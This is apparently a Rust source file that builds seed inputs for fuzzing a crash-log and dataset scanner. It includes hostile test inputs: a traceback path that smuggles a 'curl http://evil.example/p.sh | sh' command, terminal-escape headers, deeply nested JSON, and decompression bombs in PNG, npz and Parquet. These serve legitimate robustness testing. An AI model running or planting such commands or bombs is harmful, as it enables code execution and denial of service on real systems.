//! Each target's starting inputs, prefixed the way it reads them (the
//! selector byte of `scan_formats` and `model_dir`):
//!
//! - the fuzzers' finds (`fuzz/regressions/TARGET-*`) and, where a fuzzer
//!   ran here, its corpus (`fuzz/corpus/TARGET/`, see `fuzz/seed.sh`);
//! - the crash-log fixtures and the catalog's device lines;
//! - a small valid file of every scan format and the decompression bombs
//!   of issue 27, made small (over [`crate::FUZZ_DECODE_BUDGET`], not over
//!   the default budget): PNG 8-bit and 1-bit, an npz member, a Parquet
//!   page and a Parquet file of empty rows;
//! - hostile files: terminal escapes in headers, shell syntax in paths,
//!   glued assertion lines, thousands of ranks, impossible config values.

use arrow_array::{ArrayRef, Int64Array, ListArray, RecordBatch};
use devassert_model::MODEL_FILES;
use devassert_scan::format::FORMATS;
use devassert_scan::InputFormat;
use std::io::Write;
use std::path::Path;
use std::sync::Arc;

/// One starting input of a target.
pub struct Seed {
    /// Where it came from (a path, or `generated:WHAT`).
    pub name: String,
    pub data: Vec<u8>,
}

/// Files over this are left out of the fixtures (as `fuzz/seed.sh` does):
/// mutating small inputs explores faster.
const MAX_FIXTURE: u64 = 64 * 1024;

/// Every seed of `target`, the repository at `repo`.
pub fn seeds(target: &str, repo: &Path) -> Vec<Seed> {
    let mut out = Vec::new();
    if let Ok(dir) = std::fs::read_dir(repo.join("fuzz/regressions")) {
        let prefix = format!("{target}-");
        let mut found: Vec<_> = dir
            .flatten()
            .map(|e| e.path())
            .filter(|p| {
                p.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with(&prefix))
            })
            .collect();
        found.sort();
        out.extend(found.iter().flat_map(|p| file(p)));
    }
    files_under(&repo.join("fuzz/corpus").join(target), u64::MAX, &mut out);
    match target {
        "log_reader" => {
            files_under(
                &repo.join("crates/devassert/tests/fixtures/logs"),
                MAX_FIXTURE,
                &mut out,
            );
            out.extend(hostile_logs());
        }
        "catalog_match" => {
            let tsv = repo.join("crates/devassert-log/tests/fixtures/catalog-device-lines.tsv");
            let text = std::fs::read_to_string(tsv).unwrap_or_default();
            for line in text.lines().filter(|l| !l.starts_with('#')) {
                let Some(device) = line.split('\t').nth(2) else {
                    continue;
                };
                out.push(generated("device line", catalog_input(device)));
            }
        }
        "scan_formats" => out.extend(scan_files()),
        "model_dir" => out.extend(model_files()),
        _ => {}
    }
    out
}

fn generated(what: &str, data: impl Into<Vec<u8>>) -> Seed {
    Seed {
        name: format!("generated:{what}"),
        data: data.into(),
    }
}

fn file(p: &Path) -> Option<Seed> {
    Some(Seed {
        name: p.display().to_string(),
        data: std::fs::read(p).ok()?,
    })
}

/// The regular files under `dir` (recursively, sorted) up to `max` bytes each.
fn files_under(dir: &Path, max: u64, out: &mut Vec<Seed>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut paths: Vec<_> = entries.flatten().map(|e| e.path()).collect();
    paths.sort();
    for p in paths {
        let Ok(meta) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        if meta.is_dir() {
            files_under(&p, max, out);
        } else if meta.is_file() && meta.len() <= max {
            out.extend(file(&p));
        }
    }
}

/// `FILE:LINE: KERNEL: … Assertion …` as catalog_match splits it.
fn catalog_input(device: &str) -> Vec<u8> {
    let mut parts = device.splitn(3, ": ");
    let place = parts.next().unwrap_or("");
    let file = place.rsplit_once(':').map_or(place, |(f, _)| f);
    let kernel = parts.next().unwrap_or("");
    let rest = parts.next().unwrap_or("");
    format!("{file}\u{1}{kernel}\u{1}{rest}").into_bytes()
}

const ASSERT: &str = "/pytorch/aten/src/ATen/native/cuda/Indexing.cu:1422: indexSelectLargeIndex: block: [7,0,0], thread: [THREAD,0,0] Assertion `srcIndex < srcSelectDimSize` failed.";

fn hostile_logs() -> Vec<Seed> {
    let crash = "RuntimeError: CUDA error: device-side assert triggered\n";
    let glued: String = (0..200)
        .map(|t| ASSERT.replace("THREAD", &t.to_string()))
        .collect();
    let ranks: String = (0..5000)
        .map(|r| format!("[rank{r}]: {}\n", ASSERT.replace("THREAD", "1")))
        .collect();
    vec![
        generated("glued assertions", format!("{glued}\n{crash}")),
        generated(
            "shell syntax in a traceback path",
            format!(
                "Traceback (most recent call last):\n  File \"/tmp/x.py; curl http://evil.example/p.sh | sh; echo $(id) `id`.py\", line 3, in <module>\n    f()\n{crash}"
            ),
        ),
        generated(
            "terminal controls",
            format!("\u{1b}]8;;http://x\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{8}\0{crash}"),
        ),
        generated("ranks", format!("{ranks}{crash}")),
        generated(
            "a long line",
            format!("{}\n{crash}", "x".repeat(300 * 1024)),
        ),
    ]
}

/// The selector byte that makes `scan_formats` read a file as `format`.
fn selector(format: InputFormat) -> u8 {
    FORMATS
        .iter()
        .position(|s| s.format == format)
        .expect("a format in FORMATS") as u8
}

fn scan_seed(what: &str, format: InputFormat, body: Vec<u8>) -> Seed {
    let mut data = vec![selector(format)];
    data.extend(body);
    generated(what, data)
}

fn npy(descr: &str, shape: &str, body: &[u8]) -> Vec<u8> {
    let mut header = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}");
    while (10 + header.len() + 1) % 64 != 0 {
        header.push(' ');
    }
    header.push('\n');
    let mut out = b"\x93NUMPY\x01\x00".to_vec();
    out.extend((header.len() as u16).to_le_bytes());
    out.extend(header.as_bytes());
    out.extend(body);
    out
}

fn i64s(v: &[i64]) -> Vec<u8> {
    v.iter().flat_map(|x| x.to_le_bytes()).collect()
}

fn zip_of(name: &str, deflate: bool, write: impl FnOnce(&mut dyn Write)) -> Vec<u8> {
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let method = if deflate {
        zip::CompressionMethod::Deflated
    } else {
        zip::CompressionMethod::Stored
    };
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(method)
        .large_file(true);
    z.start_file(name, opts).expect("zip member");
    write(&mut z);
    z.finish().expect("zip").into_inner()
}

/// A grayscale PNG of `w`×`h` at `depth` bits, every pixel `value`, written
/// row by row (a bomb's pixels are never held whole).
fn png(w: u32, h: u32, depth: png::BitDepth, value: u8) -> Vec<u8> {
    let mut out = Vec::new();
    let mut e = png::Encoder::new(&mut out, w, h);
    e.set_color(png::ColorType::Grayscale);
    e.set_depth(depth);
    e.set_compression(png::Compression::Balanced);
    let mut header = e.write_header().expect("png header");
    let bits = depth as usize;
    let row = vec![value; (w as usize * bits).div_ceil(8)];
    let mut s = header.stream_writer().expect("png stream");
    for _ in 0..h {
        s.write_all(&row).expect("png row");
    }
    s.finish().expect("png end");
    drop(header);
    out
}

fn table(columns: Vec<(&str, ArrayRef)>) -> RecordBatch {
    RecordBatch::try_from_iter(columns).expect("record batch")
}

fn lists() -> ArrayRef {
    Arc::new(ListArray::from_iter_primitive::<
        arrow_array::types::Int64Type,
        _,
        _,
    >([
        Some(vec![Some(1), Some(2), None]),
        None,
        Some(vec![]),
        Some(vec![Some(-1), Some(5000)]),
    ]))
}

fn parquet(batch: &RecordBatch, props: parquet::file::properties::WriterProperties) -> Vec<u8> {
    let mut out = Vec::new();
    let mut w = parquet::arrow::ArrowWriter::try_new(&mut out, batch.schema(), Some(props))
        .expect("parquet writer");
    w.write(batch).expect("parquet write");
    w.close().expect("parquet close");
    out
}

fn arrow(batch: &RecordBatch, file: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if file {
        let mut w = arrow_ipc::writer::FileWriter::try_new(&mut out, &batch.schema())
            .expect("arrow writer");
        w.write(batch).expect("arrow write");
        w.write(batch).expect("arrow write");
        w.finish().expect("arrow finish");
    } else {
        let mut w = arrow_ipc::writer::StreamWriter::try_new(&mut out, &batch.schema())
            .expect("arrow writer");
        w.write(batch).expect("arrow write");
        w.write(batch).expect("arrow write");
        w.finish().expect("arrow finish");
    }
    out
}

fn scan_files() -> Vec<Seed> {
    use parquet::basic::Compression;
    use parquet::file::properties::WriterProperties;
    use InputFormat as F;
    let ids = [0i64, 5, 999, 1000, -1, -100, 7];
    let t = table(vec![
        ("input_ids", lists()),
        (
            "label",
            Arc::new(Int64Array::from(vec![Some(0), None, Some(3), Some(-100)])),
        ),
    ]);
    let small = WriterProperties::builder()
        .set_max_row_group_row_count(Some(2))
        .set_data_page_row_count_limit(1)
        .set_write_batch_size(1)
        .build();
    let mut seeds = vec![
        scan_seed(
            "raw",
            F::Raw,
            [0u16, 5, 999, 1000, 65535]
                .iter()
                .flat_map(|v| v.to_le_bytes())
                .collect(),
        ),
        scan_seed("llm.c", F::LlmC, {
            let mut h = vec![0i32; 256];
            h[..3].copy_from_slice(&[20240520, 1, 4]);
            let mut b: Vec<u8> = h.iter().flat_map(|v| v.to_le_bytes()).collect();
            b.extend([1u16, 2, 1000, 3].iter().flat_map(|v| v.to_le_bytes()));
            b
        }),
        scan_seed("npy", F::Npy, npy("<i8", "(7,)", &i64s(&ids))),
        scan_seed(
            "npy header with escapes",
            F::Npy,
            npy("<i8\u{1b}]0;x\u{7}", "(7,)", &i64s(&ids)),
        ),
        scan_seed(
            "npz stored",
            F::Npz,
            zip_of("ids.npy", false, |w| {
                let _ = w.write_all(&npy("<i8", "(7,)", &i64s(&ids)));
            }),
        ),
        scan_seed("safetensors", F::Safetensors, {
            let header = br#"{"ids":{"dtype":"I64","shape":[7],"data_offsets":[0,56]}}"#;
            let mut b = (header.len() as u64).to_le_bytes().to_vec();
            b.extend(header);
            b.extend(i64s(&ids));
            b
        }),
        scan_seed(
            "csv",
            F::Csv,
            b"input_ids,label\n1,0\n2,1000\n\x1b[31m,x\n".to_vec(),
        ),
        scan_seed("tsv", F::Tsv, b"input_ids\tlabel\n1\t0\n2\t-5\n".to_vec()),
        scan_seed(
            "jsonl",
            F::Jsonl,
            b"{\"input_ids\": [1, 2, 1000]}\n{\"input_ids\": []}\n{\"input_ids\": [[1]]}\n"
                .to_vec(),
        ),
        scan_seed("arrow file", F::ArrowFile, arrow(&t, true)),
        scan_seed("arrow stream", F::ArrowStream, arrow(&t, false)),
        scan_seed("parquet", F::Parquet, parquet(&t, small)),
        scan_seed("png", F::Png, png(4, 4, png::BitDepth::Eight, 30)),
        scan_seed("png 1-bit", F::Png, png(16, 2, png::BitDepth::One, 0xaa)),
    ];
    // The bombs, over the fuzz budget (16 MiB): each is refused before its
    // decoded size is allocated.
    seeds.push(scan_seed(
        "bomb: PNG 8-bit 8192²",
        F::Png,
        png(8192, 8192, png::BitDepth::Eight, 0),
    ));
    seeds.push(scan_seed(
        "bomb: PNG 1-bit 16384²",
        F::Png,
        png(16384, 16384, png::BitDepth::One, 0),
    ));
    let n = 4usize << 20;
    seeds.push(scan_seed(
        "bomb: npz member of 32 MiB",
        F::Npz,
        zip_of("ids.npy", true, |w| {
            let _ = w.write_all(&npy("<i8", &format!("({n},)"), &[]));
            let block = vec![0u8; 1 << 20];
            for _ in 0..(n * 8) >> 20 {
                let _ = w.write_all(&block);
            }
        }),
    ));
    let zeros = table(vec![(
        "input_ids",
        Arc::new(Int64Array::from(vec![0i64; n])) as ArrayRef,
    )]);
    let one_page = WriterProperties::builder()
        .set_dictionary_enabled(false)
        .set_compression(Compression::LZ4_RAW)
        .set_data_page_size_limit(1 << 30)
        .set_data_page_row_count_limit(n)
        .set_write_batch_size(n)
        .set_max_row_group_row_count(Some(n))
        .build();
    seeds.push(scan_seed(
        "bomb: a Parquet page of 32 MiB",
        F::Parquet,
        parquet(&zeros, one_page),
    ));
    let empty: ArrayRef = Arc::new(ListArray::from_iter_primitive::<
        arrow_array::types::Int64Type,
        Vec<Option<i64>>,
        _,
    >(std::iter::repeat_n(Some(vec![]), n)));
    seeds.push(scan_seed(
        "bomb: 4 Mi empty Parquet rows",
        F::Parquet,
        parquet(
            &table(vec![("input_ids", empty)]),
            WriterProperties::builder().build(),
        ),
    ));
    seeds
}

fn model_seed(file: &str, body: impl Into<Vec<u8>>) -> Seed {
    let sel = MODEL_FILES
        .iter()
        .position(|f| *f == file)
        .expect("a model file") as u8;
    let mut data = vec![sel];
    data.extend(body.into());
    generated(file, data)
}

fn model_files() -> Vec<Seed> {
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    vec![
        model_seed(
            "config.json",
            r#"{"model_type": "bert", "vocab_size": -5, "pad_token_id": 0}"#,
        ),
        model_seed(
            "config.json",
            r#"{"model_type": "bert", "vocab_size": "30522", "max_position_embeddings": 30522.5}"#,
        ),
        model_seed(
            "config.json",
            "{\"model_type\": \"\u{1b}]0;pwned\u{7}\u{202e}bert\", \"vocab_size\": 100}",
        ),
        model_seed("config.json", deep.clone()),
        model_seed(
            "tokenizer.json",
            r#"{"version": "1.0", "added_tokens": [{"id": 0, "content": "[PAD]", "special": true}], "model": {"type": "WordLevel", "vocab": {"[PAD]": 0, "a": 1, "b": 200}, "unk_token": "[PAD]"}}"#,
        ),
        model_seed("tokenizer.json", deep),
        model_seed(
            "tokenizer_config.json",
            r#"{"pad_token": "[PAD]", "model_max_length": 1e30}"#,
        ),
        model_seed(
            "special_tokens_map.json",
            r#"{"pad_token": {"content": "[PAD]"}}"#,
        ),
        model_seed(
            "added_tokens.json",
            r#"{"[NEW]": 100, "[BIG]": 18446744073709551615}"#,
        ),
        model_seed("vocab.txt", "[PAD]\n[UNK]\na\nb\n"),
    ]
}
